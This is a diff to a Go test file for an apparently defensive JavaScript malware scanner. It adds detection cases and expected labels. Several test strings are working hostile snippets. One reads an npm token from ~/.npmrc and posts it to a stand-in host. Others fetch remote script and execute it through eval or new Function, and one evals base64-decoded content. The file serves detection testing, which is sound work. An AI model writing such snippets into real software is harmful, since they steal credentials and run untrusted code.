@@ -67,6 +67,8 @@ func TestJS(t *testing.T) {
 	cases := []struct{ src, want string }{
 		{"const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nconst token = rc.match(/x/)[1];\nfetch('https://x.example/t', { method: 'POST', body: JSON.stringify({ token }) });\n", "secret-send"},
 		{"const https = require('https');\nhttps.get('https://x.example/a.js', (res) => {\n  let body = '';\n  res.on('data', (c) => (body += c));\n  res.on('end', () => eval(body));\n});\n", "fetch-exec"},
+		{"const https = require('https');\nhttps.get('https://x.example/a.js', (res) => {\n  let data = '';\n  res.on('data', (c) => (data += c));\n  res.on('end', () => { const run = new Function('require', 'process', data); run(require, process); });\n});\n", "fetch-exec"},
+		{"const add = new Function('a', 'b', 'return a + b');\n", ""},
 		{"const cfg = '" + packed + "';\neval(Buffer.from(cfg, 'base64').toString('utf8'));\n", "decode-exec,shell:pipe-to-shell"},
 		{"fetch('https://api.example/x', {headers: {Authorization: `Bearer ${process.env.API_TOKEN}`}})\n", ""},
 		// A request's end() and write() send what they are given; a path
